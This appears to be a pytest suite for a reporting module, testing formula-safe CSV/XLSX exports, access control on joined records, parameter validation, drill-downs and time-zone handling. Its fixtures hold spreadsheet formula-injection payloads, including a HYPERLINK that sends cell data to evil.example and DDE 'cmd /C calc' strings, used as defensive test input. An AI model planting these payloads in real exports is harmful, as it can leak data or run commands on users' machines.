"""Reports that cannot be turned against their readers (issue 9: items 10, 11, 12, 14).

Exports carry no formulas, joined records obey row-level access, bad parameters are 4xx,
a drilled cell lists exactly the records behind its number, the business time zone is a
setting on both databases, and blueprint version requirements are PEP 440 specifiers.
"""
import csv
import io
from collections import Counter
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from formflow import clock
from formflow.extensions import db
from formflow.forms import catalog, records
from formflow.people.models import User
from formflow.reports import compiler, export, store
from test_reports import data  # noqa: F401  (the 60 leads with status histories)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "＝1+1"]  # (records strip leading tabs and CRs; titles keep them)

LEDGER = {
    "key": "ledger", "title": {"zh-CN": "台账", "en": "Ledger"},
    "settings": {"title_field": "note", "search_fields": ["note"], "list_fields": ["note"], "duplicate_keys": []},
    "schema": {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object", "properties": {
        "note": {"title": "备注", "type": "string", "maxLength": 200},
        "kind": {"title": "类别", "type": "string", "enum": ["a", "b"]},
        "delta": {"title": "变动", "type": "number"},
        "step": {"title": "步数", "type": "integer"},
        "at": {"title": "发生时间", "type": "string", "format": "date-time"},
        "day": {"title": "日期", "type": "string", "format": "date"}}, "required": ["note"]},
    "ui": {"sections": [{"key": "main", "title": {"zh-CN": "台账"}, "fields": ["note", "kind", "delta", "step", "at", "day"]}],
           "fields": {"kind": {"widget": "select", "options": {"a": {"zh-CN": "=HYPERLINK(\"http://x\",\"类别A\")"},
                                                                "b": {"zh-CN": "普通"}}}}},
}


def user(name):
    return db.session.scalars(select(User).where(User.username == name)).one()


def ledger(app, rows, owner="sales1"):
    """Define the ledger form and add rows (dicts of its fields) owned by ``owner``."""
    with app.test_request_context():
        catalog.define(LEDGER)
        db.session.commit()
        form, who = catalog.get_form("ledger"), user(owner)
        made = []
        for row in rows:
            extra = {k: row.pop(k) for k in ("created_at",) if k in row}
            made.append(records.create(form, row, who, owner=who, **extra).id)
        db.session.commit()
    return made


# --- item 10: exports carry no formulas ----------------------------------------------------------

def _csv(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_exports_escape_formulas_and_keep_numbers(app, client, auth, cardealer):
    rows = [{"note": v, "kind": "a", "delta": -3, "step": -3} for v in NASTY]
    rows += [{"note": "普通备注", "kind": "b", "delta": -1.5, "step": 4}, {"note": "a\x07b", "kind": "b", "delta": 2}]
    ledger(app, rows)
    with app.app_context():
        user("sales1").display_name = "=cmd|' /C notepad'!A0"
        db.session.commit()
    with app.test_request_context():
        store.save({"key": "ledger_notes", "title": {"zh-CN": "台账"}, "source": "ledger",
                    "dimensions": [{"field": "note"}, {"field": "kind"}, {"field": "owner"}],
                    "measures": [{"key": "total", "type": "sum", "field": "delta", "title": {"zh-CN": "=SUM(A1:A9)"}},
                                 {"key": "n", "type": "count", "title": {"zh-CN": "\t=2+2"}},
                                 {"key": "m", "type": "count", "title": {"zh-CN": "\r=3+3"}}]})
        store.save({"key": "ledger_steps", "source": "ledger", "dimensions": [{"field": "step"}],
                    "measures": [{"key": "total", "type": "sum", "field": "delta"}]})
        db.session.commit()
    auth.login("admin")
    steps = _csv(client.get("/reports/ledger_steps/export.csv"))
    assert ["-3", str(-3 * len(NASTY))] in steps and ["4", "-1.50"] in steps  # a number dimension and sums stay numbers
    table = _csv(client.get("/reports/ledger_notes/export.csv"))
    assert table[0][3:] == ["'=SUM(A1:A9)", "'\t=2+2", "'\r=3+3"]  # headers (measures' titles) too
    body = table[1:]
    assert len(body) == len(rows)
    for cells in table:
        for text in cells:
            assert not text.startswith(TRIGGERS) or text in ("-3", "-1.50"), cells
    notes = {r[0] for r in body}
    assert {"'" + v for v in NASTY if v.startswith(TRIGGERS)} <= notes
    assert "'＝1+1" in notes and "普通备注" in notes  # the full-width ＝ too; nothing else is changed
    assert {r[1] for r in body} == {"'=HYPERLINK(\"http://x\",\"类别A\")", "普通"}  # an option's label
    assert {r[2] for r in body} == {"'=cmd|' /C notepad'!A0"}  # a user's name
    negative = [r for r in body if r[0] == "'-2+3+cmd|' /C calc'!A0"][0]
    assert negative[3] == "-3"  # real numbers stay numbers

    sheet = load_workbook(io.BytesIO(client.get("/reports/ledger_notes/export.xlsx").data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value.replace("\n", "\r") for c in cells if c.data_type == "s"]  # XML reads a CR back as LF
    assert {"'=SUM(A1:A9)", "'\t=2+2", "'\r=3+3", "'=cmd|' /C notepad'!A0"} <= set(texts)
    assert {"'" + v for v in NASTY if v.startswith(TRIGGERS)} <= set(texts)
    assert all(not t.startswith(TRIGGERS) for t in texts if t != "-3"), texts
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers.count(-3) == sum(1 for r in rows if r.get("delta") == -3) and -1.5 in numbers
    assert "ab" in texts  # a control character XML cannot hold is dropped, not a 500


def test_escaping_rules():
    assert export.escape("=1+1") == "'=1+1" and export.escape("\t1") == "'\t1"
    assert export.escape("-3") == "'-3"  # text that merely looks like a number is still text
    assert export.escape("a=b") == "a=b" and export.escape("") == "" and export.escape("'=1") == "'=1"


# --- item 11: reports never see through a reference -----------------------------------------------

def _handed_over(app):
    """sales1 made a lead and its follow-up; the lead was then reassigned to sales2."""
    with app.test_request_context():
        s1, s2 = user("sales1"), user("sales2")
        lead = records.create(catalog.get_form("lead"), {"customer_name": "赵女士", "phone": "13800001111",
                                                         "source_channel": "dongchedi", "status": "new"}, s1, owner=s1)
        db.session.commit()
        mine = records.create(catalog.get_form("lead"), {"customer_name": "钱先生", "phone": "13800002222",
                                                         "source_channel": "showroom", "status": "new"}, s1, owner=s1)
        db.session.commit()
        for target in (lead, mine):
            records.create(catalog.get_form("followup"), {"lead": target.id, "followup_at": "2026-11-02T10:00:00+08:00",
                                                          "method": "phone", "content": "电话沟通"}, s1, owner=s1)
        db.session.commit()
        records.update(lead, {}, lead.version, user("admin"), owner=s2)
        db.session.commit()
        return lead.id


def test_joined_fields_of_a_record_one_may_not_see_are_not_shown(app, api, cardealer):
    _handed_over(app)
    a = api("sales1")
    defn = {"source": "followup", "dimensions": [{"field": "lead.phone"}, {"field": "lead.customer_name"}],
            "measures": [{"key": "n", "type": "count"}, {"key": "phones", "type": "count_distinct", "field": "lead.phone"}]}
    got = a.post("/api/v1/reports/preview", json=defn)
    assert got.status_code == 200
    assert sorted(got.json["rows"], key=str) == sorted([[None, None, 1, 0], ["13800002222", "钱先生", 1, 1]], key=str)
    assert "13800001111" not in got.get_data(as_text=True) and "赵女士" not in got.get_data(as_text=True)
    # the manager of the team still sees both leads through their follow-ups
    seen = api("manager").post("/api/v1/reports/preview", json=defn).json["rows"]
    assert sorted(r[0] for r in seen) == ["13800001111", "13800002222"]


@pytest.mark.parametrize("flt,other", [
    ({"field": "lead.phone", "op": "eq", "value": "13800001111"}, "13899999999"),
    ({"field": "lead.phone", "op": "in", "value": ["13800001111"]}, ["13899999999"]),
    ({"field": "lead.customer_name", "op": "eq", "value": "赵女士"}, "没有这个人"),
    ({"field": "lead.source_channel", "op": "eq", "value": "dongchedi"}, "autohome"),
])
def test_filters_over_joined_fields_do_not_reveal_existence(app, api, cardealer, flt, other):
    _handed_over(app)
    a = api("sales1")
    defn = {"source": "followup", "measures": [{"key": "n", "type": "count"}]}
    hit = a.post("/api/v1/reports/preview", json={**defn, "filters": [flt]}).json["rows"]
    miss = a.post("/api/v1/reports/preview", json={**defn, "filters": [{**flt, "value": other}]}).json["rows"]
    assert hit == miss == [[0]]
    measured = a.post("/api/v1/reports/preview", json={**defn, "measures": [
        {"key": "n", "type": "count", "where": [flt]}]}).json["rows"]
    assert measured == [[0]]


def test_drill_and_saved_report_data_obey_access_on_joins(app, api, client, auth, cardealer):
    _handed_over(app)
    with app.test_request_context():
        store.save({"key": "fu_by_phone", "source": "followup", "dimensions": [{"field": "lead.phone"}],
                    "measures": [{"key": "n", "type": "count"}]})
        db.session.commit()
    rows = api("sales1").get("/api/v1/reports/fu_by_phone/data").json["rows"]
    assert sorted(rows, key=str) == sorted([[None, 1], ["13800002222", 1]], key=str)
    auth.login("sales1")
    page = client.get("/reports/fu_by_phone/drill?lead.phone=13800001111")
    assert page.status_code == 200 and "0" in page.get_data(as_text=True)
    assert page.get_data(as_text=True).count('class="list-group-item list-group-item-action"') == 0
    assert "13800001111" not in client.get("/reports/fu_by_phone").get_data(as_text=True)
    assert "13800001111" not in client.get("/reports/fu_by_phone/export.csv").get_data(as_text=True)


# --- item 12: bad parameters are a 4xx naming the parameter ---------------------------------------

@pytest.fixture
def saved(app, cardealer):
    with app.test_request_context():
        store.save({"key": "by_channel", "source": "lead", "dimensions": [{"field": "source_channel"}],
                    "measures": [{"key": "n", "type": "count"}]})
        db.session.commit()


@pytest.mark.parametrize("query,param", [
    ("date_field=nope&from=2026-01-01", "date_field"), ("date_field=phone&from=2026-01-01", "date_field"),
    ("date_field=nope", "date_field"), ("from=2026-02-30", "from"), ("to=2026-13-01", "to"),
])
def test_report_data_refuses_bad_range_parameters(app, api, saved, query, param):
    got = api("admin").get(f"/api/v1/reports/by_channel/data?{query}", headers={"Accept-Language": "zh-CN"})
    assert got.status_code == 422 and list(got.json["errors"]) == [param]
    assert param in got.json["errors"][param][0]
    en = api("admin").get(f"/api/v1/reports/by_channel/data?{query}", headers={"Accept-Language": "en"})
    assert en.json["errors"][param][0] != got.json["errors"][param][0]


@pytest.mark.parametrize("path", ["drill", "data.json", "export.csv", "export.xlsx", ""])
@pytest.mark.parametrize("query,param", [("from=2026-02-30", "from"), ("to=2026-02-30", "to"),
                                         ("date_field=nope&from=2026-01-01", "date_field")])
def test_report_pages_refuse_bad_range_parameters(app, client, auth, saved, path, query, param):
    auth.login("admin")
    got = client.get(f"/reports/by_channel/{path}?{query}".replace("/?", "?"))
    assert 400 <= got.status_code < 500
    assert param in got.get_data(as_text=True)


def test_a_good_date_field_still_filters(app, api, saved):
    with app.test_request_context():
        rec = records.create(catalog.get_form("lead"), {"customer_name": "孙女士", "phone": "13800003333",
                                                        "source_channel": "dongchedi", "status": "new",
                                                        "expected_purchase_date": "2027-03-01"}, user("admin"))
        db.session.commit()
        assert rec.id
    got = api("admin").get("/api/v1/reports/by_channel/data?date_field=expected_purchase_date&from=2027-03-01&to=2027-03-01")
    assert got.status_code == 200 and got.json["rows"] == [["dongchedi", 1]]
    none = api("admin").get("/api/v1/reports/by_channel/data?date_field=expected_purchase_date&from=2027-03-02")
    assert none.status_code == 200 and none.json["rows"] == []


@pytest.mark.parametrize("flt,where", [
    ({"field": "created_at", "op": "gte", "value": "abc"}, "/filters/0/value"),
    ({"field": "created_at", "op": "lt", "value": 20260101}, "/filters/0/value"),
    ({"field": "created_at", "op": "between", "value": ["2026-01-01", "2026-02-30"]}, "/filters/0/value"),
    ({"field": "deal_date", "op": "eq", "value": "soon"}, "/filters/0/value"),
    ({"field": "deal_date", "op": "gte", "value": "2026-01-01T10:00:00"}, "/filters/0/value"),
    ({"field": "appointment_at", "op": "in", "value": ["2026-01-01", "tomorrow"]}, "/filters/0/value"),
])
def test_a_non_date_in_a_date_filter_is_refused(app, api, client, auth, cardealer, flt, where):
    defn = {"source": "lead", "measures": [{"key": "n", "type": "count"}], "filters": [flt]}
    got = api("admin").post("/api/v1/reports/preview", json=defn)
    assert got.status_code == 422 and where in got.json["errors"], got.get_data(as_text=True)[:300]
    measured = api("admin").post("/api/v1/reports/preview", json={"source": "lead", "measures": [
        {"key": "n", "type": "count", "where": [flt]}]})
    assert measured.status_code == 422 and "/measures/0/where/0/value" in measured.json["errors"]
    auth.login("admin")
    saved = client.post("/reports/builder/save", json={"key": "bad_dates", **defn})
    assert saved.status_code == 422 and where in saved.json["errors"]
    with app.app_context():
        assert store.get("bad_dates") is None


def test_date_filters_that_are_dates_work(app, api, cardealer):
    defn = {"source": "lead", "measures": [{"key": "n", "type": "count"}], "filters": [
        {"field": "created_at", "op": "gte", "value": "2026-01-01"},
        {"field": "created_at", "op": "lt", "value": "2099-01-01T00:00:00+08:00"},
        {"field": "deal_date", "op": "is_empty"}]}
    assert api("admin").post("/api/v1/reports/preview", json=defn).status_code == 200


@pytest.mark.parametrize("url", ["/reports/builder/preview", "/reports/builder/save"])
@pytest.mark.parametrize("body", ["[" * 100000 + "]" * 100000, "[1, 2]", '"text"'])
def test_builder_bodies_that_are_not_objects_are_a_400(app, client, auth, cardealer, url, body):
    auth.login("admin")
    got = client.post(url, data=body, content_type="application/json")
    assert got.status_code == 400 and got.json["errors"][""]


# --- item 14a: a drilled cell lists exactly the records behind its number -------------------------

FUNNEL = {"key": "funnel_by_channel", "title": {"zh-CN": "渠道漏斗"}, "source": "lead",
          "dimensions": [{"field": "source_channel"}],
          "measures": [{"key": "n", "type": "count"},
                       {"key": "won", "type": "count", "where": [{"field": "status", "op": "eq", "value": "won"}]},
                       {"key": "contacted", "type": "reached", "states": ["contacted"]},
                       {"key": "conv", "type": "conversion", "from": ["contacted"], "to": ["won"]},
                       {"key": "won_share", "type": "ratio", "numerator": "won", "denominator": "n"},
                       {"key": "fast", "type": "within", "from": ["created"], "to": ["contacted"], "hours": 72}]}


def _listed(page):
    return page.get_data(as_text=True).count('class="list-group-item list-group-item-action"')


def test_a_drilled_cell_lists_the_records_behind_its_number(app, client, auth, data):  # noqa: F811
    channel = Counter(m["data"]["source_channel"] for m in data).most_common(1)[0][0]
    items = [m for m in data if m["data"]["source_channel"] == channel]
    reached = lambda s: {m["id"] for m in items if s in m["entered"]}  # noqa: E731
    with app.test_request_context():
        store.save(FUNNEL)
        db.session.commit()
    auth.login("admin")
    base = f"/reports/funnel_by_channel/drill?source_channel={channel}"
    assert _listed(client.get(base)) == len(items)
    assert _listed(client.get(base + "&measure=n")) == len(items)
    assert _listed(client.get(base + "&measure=won")) == sum(1 for m in items if m["data"]["status"] == "won") \
        == len(reached("won"))
    assert _listed(client.get(base + "&measure=contacted")) == len(reached("contacted"))
    assert _listed(client.get(base + "&measure=conv")) == len(reached("contacted") & reached("won"))
    assert _listed(client.get(base + "&measure=won_share")) == len(reached("won"))
    with app.test_request_context():
        [row] = [r for r in compiler.run(FUNNEL, user("admin")).rows if r[0] == channel]
        on_time = compiler.drill(FUNNEL, user("admin"), {"source_channel": channel}, measure="fast")
    assert _listed(client.get(base + "&measure=fast")) == len(on_time) > 0
    assert row[4] == pytest.approx(len(reached("contacted") & reached("won")) / len(reached("contacted")))
    # the table's cells link to exactly their measure
    page = client.get("/reports/funnel_by_channel").get_data(as_text=True)
    assert f"source_channel={channel}&amp;measure=won" in page or f"measure=won&amp;source_channel={channel}" in page
    assert client.get(base + "&measure=nope").status_code == 400


def _header(page):
    import re
    return re.sub(r"<[^>]+>", "", re.search(r'<p[^>]*id="drill-cell"[^>]*>(.*?)</p>', page.get_data(as_text=True),
                                            re.S).group(1))


def test_the_drill_header_shows_labels(app, client, auth, data):  # noqa: F811
    with app.test_request_context():
        store.save(FUNNEL)
        store.save({"key": "by_owner_month", "source": "lead", "dimensions": [
            {"field": "owner"}, {"field": "created_at", "grain": "month"}], "measures": [{"key": "n", "type": "count"}]})
        db.session.commit()
    auth.login("admin")
    header = _header(client.get("/reports/funnel_by_channel/drill?source_channel=dongchedi&measure=won"))
    assert "来源渠道 = 懂车帝" in header and "跟进状态=成交" in header
    assert "source_channel" not in header and "dongchedi" not in header
    header = _header(client.get("/reports/by_owner_month/drill?owner=sales1&created_at:month=2026-09"))
    assert "负责人 = 王磊" in header and "创建时间 = 2026-09" in header and "sales1" not in header
    assert "来源渠道 = （空）" in _header(client.get("/reports/funnel_by_channel/drill?source_channel="))


def test_a_year_cell_drills_on_both_databases(app, client, auth, data):  # noqa: F811
    with app.test_request_context():
        store.save({"key": "by_year", "source": "lead", "dimensions": [{"field": "created_at", "grain": "year"}],
                    "measures": [{"key": "n", "type": "count"}]})
        db.session.commit()
    auth.login("admin")
    got = client.get("/reports/by_year/drill?created_at:year=2026")  # a label that looks like a number
    assert got.status_code == 200 and _listed(got) == len(data)


def test_clicking_a_measure_s_bar_drills_into_that_measure(app, live, desk, cardealer):
    """chart.js sends the bar's measure: the second bar of a channel lists only its A leads."""
    from test_e2e import login
    with app.test_request_context():
        sales1 = user("sales1")
        for i, quality in enumerate(["a", "b", "b", "b"]):
            records.create(catalog.get_form("lead"), {"customer_name": f"客户{i}", "phone": f"1361234{i:04d}",
                                                      "source_channel": "douyin_dm", "status": "new",
                                                      "quality": quality}, sales1, owner=sales1)
        store.save({"key": "quality_bars", "source": "lead", "dimensions": [{"field": "source_channel"}],
                    "measures": [{"key": "n", "type": "count"},
                                 {"key": "a", "type": "count", "where": [{"field": "quality", "op": "eq", "value": "a"}]}],
                    "chart": {"type": "bar"}})
        db.session.commit()
    page = desk.new_page()
    login(page, live, "manager")
    page.goto(f"{live.url}/reports/quality_bars")
    bars = page.locator("#chart .bars path")
    bars.nth(1).wait_for()
    box = bars.nth(1).bounding_box()  # the second trace: the A leads
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.wait_for_url("**/drill?**")
    assert "measure=a" in page.url
    assert page.locator(".list-group-item-action").count() == 1
    assert "来源渠道 = 抖音私信" in page.locator("#drill-cell").inner_text()


# --- item 14b: the business time zone is the TIMEZONE setting -------------------------------------

NY = ZoneInfo("America/New_York")
# instants around midnight and the DST changes of New York in 2026 (March 8th, November 1st)
MOMENTS = [datetime(2026, 3, 8, 4, 30, tzinfo=timezone.utc),   # 03-07 23:30 EST
           datetime(2026, 3, 8, 5, 30, tzinfo=timezone.utc),   # 03-08 00:30 EST
           datetime(2026, 3, 9, 3, 30, tzinfo=timezone.utc),   # 03-08 23:30 EDT
           datetime(2026, 3, 9, 4, 30, tzinfo=timezone.utc),   # 03-09 00:30 EDT (a fixed -5 says 03-08)
           datetime(2026, 11, 1, 3, 59, tzinfo=timezone.utc),  # 10-31 23:59 EDT
           datetime(2026, 11, 2, 4, 30, tzinfo=timezone.utc),  # 11-01 23:30 EST (a fixed -4 says 11-02)
           datetime(2026, 11, 2, 5, 30, tzinfo=timezone.utc)]  # 11-02 00:30 EST


def _day_rows(app, defn, username="admin"):
    with app.test_request_context():
        result = compiler.run(defn, user(username))
        return {row[0]: row[1] for row in result.rows}


def test_days_follow_the_time_zone_setting_across_dst(app, cardealer):
    app.config["TIMEZONE"] = "America/New_York"
    ledger(app, [{"note": f"n{i}", "at": m.isoformat(), "created_at": m} for i, m in enumerate(MOMENTS)])
    expected = dict(Counter(m.astimezone(NY).date().isoformat() for m in MOMENTS))
    for path in ("created_at", "at"):  # a column and a JSON date-time field
        defn = {"key": "r", "source": "ledger", "dimensions": [{"field": path, "grain": "day"}],
                "measures": [{"key": "n", "type": "count"}]}
        assert _day_rows(app, defn) == expected, path
        with app.test_request_context():
            for day, n in expected.items():
                assert len(compiler.drill(defn, user("admin"), {f"{path}:day": day})) == n
    months = {"key": "r", "source": "ledger", "dimensions": [{"field": "created_at", "grain": "month"}],
              "measures": [{"key": "n", "type": "count"}]}
    assert _day_rows(app, months) == dict(Counter(m.astimezone(NY).strftime("%Y-%m") for m in MOMENTS))
    app.config["TIMEZONE"] = "UTC"
    assert _day_rows(app, months) == dict(Counter(m.strftime("%Y-%m") for m in MOMENTS))


def test_relative_ranges_and_date_fields_use_the_setting(app, cardealer):
    app.config["TIMEZONE"] = "America/New_York"
    ledger(app, [{"note": f"n{i}", "day": "2026-03-09", "created_at": m} for i, m in enumerate(MOMENTS)])
    defn = {"key": "r", "source": "ledger", "measures": [{"key": "n", "type": "count"}],
            "filters": [{"field": "created_at", "op": "relative", "value": "today"}]}
    clock.freeze(datetime(2026, 3, 8, 4, 0, tzinfo=timezone.utc))  # 03-07 23:00 in New York, 12:00 in Shanghai
    try:
        with app.test_request_context():
            [[n]] = compiler.run(defn, user("admin")).rows
    finally:
        clock.reset()
    assert n == sum(1 for m in MOMENTS if m.astimezone(NY).date().isoformat() == "2026-03-07") == 1
    # a date field is a day in the business zone: 2026-03-09 starts at 04:00 UTC (EDT, not EST)
    days = {"key": "r", "source": "ledger", "measures": [
        {"key": "d", "type": "avg_days", "from": ["created"], "to": ["field:day"]}]}
    with app.test_request_context():
        [[d]] = compiler.run(days, user("admin")).rows
    start = datetime(2026, 3, 9, tzinfo=NY)
    before = [(start - m).total_seconds() / 86400 for m in MOMENTS if m <= start]
    assert d == pytest.approx(sum(before) / len(before), abs=1e-5)


def test_shanghai_before_1992_had_summer_time(app, cardealer):
    """The default zone's fixed offset holds only since 1991: older instants convert exactly too."""
    moments = [datetime(1988, 7, 1, 15, 30, tzinfo=timezone.utc),  # 07-02 00:30 CDT (+9); +8 says 07-01
               datetime(2026, 7, 1, 15, 30, tzinfo=timezone.utc)]  # 07-01 23:30 CST
    ledger(app, [{"note": f"n{i}", "at": m.isoformat()} for i, m in enumerate(moments)])
    defn = {"key": "r", "source": "ledger", "dimensions": [{"field": "at", "grain": "day"}],
            "measures": [{"key": "n", "type": "count"}]}
    assert _day_rows(app, defn) == {"1988-07-02": 1, "2026-07-01": 1}


def test_date_time_fields_filter_as_instants(app, cardealer):
    """A field's date-times carry their offsets: filters compare instants, not texts."""
    ledger(app, [{"note": "a", "at": "2026-07-01T03:00:00+00:00"},   # 11:00 in Shanghai
                 {"note": "b", "at": "2026-07-01T10:30:00+08:00"},
                 {"note": "c", "at": "2026-07-01T01:00:00+00:00"},   # 09:00 in Shanghai
                 {"note": "d", "at": "2026-06-30T17:00:00+00:00"}])  # 07-01 01:00 in Shanghai

    def notes(*filters):
        defn = {"key": "r", "source": "ledger", "dimensions": [{"field": "note"}],
                "measures": [{"key": "n", "type": "count"}], "filters": list(filters)}
        return sorted(_day_rows(app, defn))

    assert notes({"field": "at", "op": "gte", "value": "2026-07-01T10:00:00+08:00"}) == ["a", "b"]
    assert notes({"field": "at", "op": "eq", "value": "2026-07-01T11:00:00+08:00"}) == ["a"]
    assert notes({"field": "at", "op": "lt", "value": "2026-07-01"}) == []  # midnight in the business zone
    assert notes({"field": "at", "op": "between", "value": ["2026-07-01T09:00:00+08:00", "2026-07-01T02:00:00Z"]}) \
        == ["c"]
    clock.freeze(datetime(2026, 7, 1, 15, 0, tzinfo=timezone.utc))  # 23:00 in Shanghai
    try:
        assert notes({"field": "at", "op": "relative", "value": "today"}) == ["a", "b", "c", "d"]
        app.config["TIMEZONE"] = "UTC"
        assert notes({"field": "at", "op": "relative", "value": "today"}) == ["a", "b", "c"]
    finally:
        clock.reset()


# --- item 14c: blueprint requirements are PEP 440 specifiers --------------------------------------

@pytest.mark.parametrize("version,spec,ok", [
    ("0.9.0", "~=0.1.0", False), ("0.1.7", "~=0.1.0", True), ("0.2.0", "~=0.1", True), ("1.0.0", "~=0.1", False),
    ("0.1.0", ">=0.1.0", True), ("0.1.0", ">=0.1.0, <0.2", True), ("0.2.0", ">=0.1.0, <0.2", False),
    ("0.1.0", "!=0.1.0", False), ("0.1.0", "0.1.0", True), ("0.1.0", "==0.1.*", True),
])
def test_version_requirements(version, spec, ok):
    from formflow.blueprints.loader import version_satisfies
    assert version_satisfies(version, spec) is ok


@pytest.mark.parametrize("spec", ["~=1", ">=0.1.0,,<2", "latest"])
def test_a_bad_requirement_names_the_field(app, tmp_path, spec):
    import json
    import shutil

    from conftest import HELPDESK
    from formflow.blueprints import loader
    folder = tmp_path / "bp"
    shutil.copytree(HELPDESK, folder)
    manifest = json.loads((folder / "blueprint.json").read_text("utf-8"))
    manifest["requires"] = spec
    (folder / "blueprint.json").write_text(json.dumps(manifest), encoding="utf-8")
    with app.app_context(), pytest.raises(loader.BlueprintError) as info:
        loader.load(folder)
    [(file, ptr, message)] = info.value.problems
    assert (file, ptr) == ("blueprint.json", "/requires")
    assert message.startswith(f"not a valid version requirement: {spec!r}"), message
